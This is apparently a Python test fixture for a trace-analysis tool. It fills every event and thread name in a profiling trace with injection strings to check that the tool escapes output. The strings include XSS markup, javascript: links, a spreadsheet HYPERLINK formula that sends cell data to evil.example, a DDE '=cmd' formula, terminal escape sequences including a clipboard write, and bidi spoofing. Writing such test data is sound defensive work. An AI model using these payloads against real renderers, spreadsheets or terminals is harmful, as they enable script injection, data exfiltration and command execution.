"""Names of strangers that try to be something else: markup, script, a formula, an order to a terminal, a path."""

from __future__ import annotations

import xpubreak as xb
from xpubreak.breakdown.breakdown import Breakdown
from xpubreak.trace import kineto

PWNED = "window.__pwned=1"

MARKUP = (
    f'<img src=x onerror="{PWNED}">',
    f"</script><script>{PWNED}</script>",
    f"</title></style></textarea><svg/onload={PWNED}>",
    f"<!--<script>{PWNED}//-->",
    f"'\" onmouseover={PWNED} x='",
    "<![CDATA[<x>]]>",
    "&lt;b&gt;&#60;script&#62;",
    "<" * 300,
)
MARKDOWN = (
    f"](javascript:{PWNED})",
    "[click](https://evil.example/?q=1)",
    "![x](https://evil.example/pixel.png)",
    "| a | b |",
    "```\nend of code",
    "@everyone #1 $$\\href{javascript:x}{y}$$",
    "# heading",
    "<https://evil.example>",
)
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '",=1+1,"',
    "a;=1+1",
    'a; "=1+1;b',
    "a;@SUM(1+1);-1",
)
TERMINAL = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b2J",
    "\x1b[2J\x1b[H",
    "\rover",
    "a\nb",
    "\b\b\b",
    "\x00null",
    "\x7f",
)
UNICODE = ("\u202egnp.exe\u202c", "\u2066x\u2069", "\u2028\u2029", "\ufeff", "\ud800", "a\u0301" * 50, "\U000e0041")
ODD = (
    "",
    " ",
    "__proto__",
    "constructor",
    "nan",
    "null",
    "-0",
    "1e999",
    "x" * 20_000,
    "_Z" + "N" * 300,
    "a;b;c",
    "\\u0000",
)

NAMES = (*MARKUP, *MARKDOWN, *FORMULAS, *TERMINAL, *UNICODE, *ODD)

FORBIDDEN = ("\x1b", "\x9b", "\x07", "\x00", "\x08", "\x7f", "\u202e", "\u2066", "\ufeff", "\U000e0041")
"""What must not stand in any text that is shown: it acts."""


def breakdown() -> Breakdown:
    """A breakdown in which everything that can have a name has each of these."""
    events = []
    for number, name in enumerate(NAMES):
        host = {"ph": "X", "pid": 1, "tid": 1}
        at = number * 100
        events += [
            {**host, "cat": "user_annotation", "name": name, "ts": at, "dur": 50},
            {**host, "cat": "cpu_op", "name": name, "ts": at + 5, "dur": 40, "args": {"Input Dims": [[name]]}},
            {**host, "cat": "xpu_runtime", "name": name, "ts": at + 10, "dur": 10, "args": {"correlation": number + 1}},
            {
                "ph": "X",
                "cat": "kernel",
                "name": name,
                "pid": 0,
                "tid": number % 3,
                "ts": at + 20,
                "dur": 30 + number / 1000,
            }
            | {"args": {"correlation": number + 1}},
            {"ph": "M", "name": "thread_name", "pid": 1, "tid": 1, "ts": 0, "args": {"name": name}},
            {"ph": "M", "name": "thread_name", "pid": 0, "tid": number % 3, "ts": 0, "args": {"name": name}},
        ]
    title = MARKUP[1] + FORMULAS[0] + "".join(TERMINAL[:2]) + UNICODE[0]
    trace = kineto.from_dicts(
        events,
        deviceProperties=[{"id": 0, "name": MARKUP[0] + TERMINAL[0] + UNICODE[0]}],
        vllm_version=MARKUP[0] + TERMINAL[0],
        note={name: name for name in NAMES},
    )
    return xb.load(trace, title=title)
